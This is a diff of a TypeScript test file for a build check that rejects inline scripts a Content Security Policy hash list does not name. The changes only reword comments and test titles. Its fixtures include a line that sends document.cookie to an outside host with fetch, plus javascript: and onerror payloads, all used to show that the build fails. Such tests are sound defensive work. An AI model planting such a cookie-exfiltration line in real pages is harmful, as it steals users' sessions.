@@ -14,7 +14,7 @@ const planted = '\n  fetch("https://example.com/" + document.cookie)\n';
 
 const toHash = (script: string) => `sha256-${createHash('sha256').update(script).digest('base64')}`;
 
-/** Stands for the prerendered pages, which no other plugin of the build sees. */
+/** Writes a page late, like the prerendered pages, which no other plugin of the build sees. */
 const latePage = (body: string): Plugin => ({
   name: 'late-page',
   writeBundle: async ({ dir = '' }) => {
@@ -55,20 +55,20 @@ test('a build succeeds if the policy names every script of its pages', async () 
   await expect(buildPages('<p>oncology = javascript: a word</p>')).resolves.toBeUndefined();
 });
 
-test('a build fails if a page holds a script that the policy does not name', async () => {
+test('a build fails if a page contains a script that the policy does not name', async () => {
   await expect(buildPages(`<script>${planted}</script>`)).rejects.toThrow(
     `index.html holds an inline script that the policy does not name: “fetch("https://example.com/" + document.cookie)”. If it is ours, add '${toHash(planted)}' to script-src in firebase.json.`,
   );
 });
 
-test('a build fails if a page that is written late holds a script in an attribute', async () => {
+test('a build fails if a page that is written late contains a script in an attribute', async () => {
   const late = `<script>${other}</script><a href=" JavaScript:alert(1)">a</a><img onerror="alert(2)">`;
   await expect(buildPages('', late)).rejects.toThrow(
     /late\.html .*href=.*\n.*onerror=“alert\(2\)”/,
   );
 });
 
-test('a build fails if no page holds a script that the policy names', async () => {
+test('a build fails if no page contains a script that the policy names', async () => {
   await expect(buildPages('', '')).rejects.toThrow(
     `The policy in firebase.json names '${toHash(other)}', but no page holds that script.`,
   );
